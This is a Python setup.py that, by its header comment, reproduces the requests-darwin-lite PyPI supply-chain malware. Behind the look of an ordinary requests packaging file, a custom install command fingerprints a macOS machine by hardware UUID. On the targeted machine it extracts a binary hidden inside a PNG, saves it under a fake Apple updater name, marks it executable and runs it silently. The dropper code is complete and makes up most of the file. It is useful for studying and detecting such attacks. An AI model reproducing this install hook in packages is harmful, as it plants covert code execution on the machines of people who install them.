# Incident: requests-darwin-lite (PyPI), found by Phylum in May 2024. A fork of requests whose
# setup.py replaced the install command: on macOS it read the machine's IOPlatformUUID, and on
# one specific machine it cut a Go binary (a Sliver implant) out of an oversized PNG shipped in
# docs/_static, wrote it to disk, made it executable and started it.
# Reference: https://blog.phylum.io/pypi-malware-hides-in-png-targets-macos/
# Reproduction (own code, placeholder host; the UUID is random, the PNG is not included).
import os
import subprocess
import sys

from setuptools import setup
from setuptools.command.install import install

here = os.path.abspath(os.path.dirname(__file__))

TARGET_UUID = "6B3D1F0E-9A52-4C7E-8E21-3F5C0D7A9B14"
PAYLOAD_OFFSET = 0x2A3F1
PAYLOAD_SIZE = 0x1023FE0


class PostInstallCommand(install):
    def run(self):
        install.run(self)
        if sys.platform != "darwin":
            return
        try:
            out = subprocess.check_output(["ioreg", "-d2", "-c", "IOPlatformExpertDevice"], text=True)
        except Exception:
            return
        if TARGET_UUID not in out:
            return
        png = os.path.join(here, "docs", "_static", "requests-sidebar-large.png")
        with open(png, "rb") as fh:
            fh.seek(PAYLOAD_OFFSET)
            blob = fh.read(PAYLOAD_SIZE)
        dest = os.path.join(os.path.expanduser("~"), ".local", "bin", "com.apple.updater")
        os.makedirs(os.path.dirname(dest), exist_ok=True)
        with open(dest, "wb") as fh:
            fh.write(blob)
        os.chmod(dest, 0o755)
        subprocess.Popen([dest], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)


about = {}
with open(os.path.join(here, "src", "requests", "__version__.py"), encoding="utf-8") as f:
    exec(f.read(), about)

setup(
    name="requests-darwin-lite",
    version=about["__version__"],
    description=about["__description__"],
    author=about["__author__"],
    package_dir={"": "src"},
    packages=["requests"],
    python_requires=">=3.8",
    install_requires=[
        "charset_normalizer>=2,<4",
        "idna>=2.5,<4",
        "urllib3>=1.21.1,<3",
        "certifi>=2017.4.17",
    ],
    cmdclass={"install": PostInstallCommand},
    license="Apache 2.0",
)
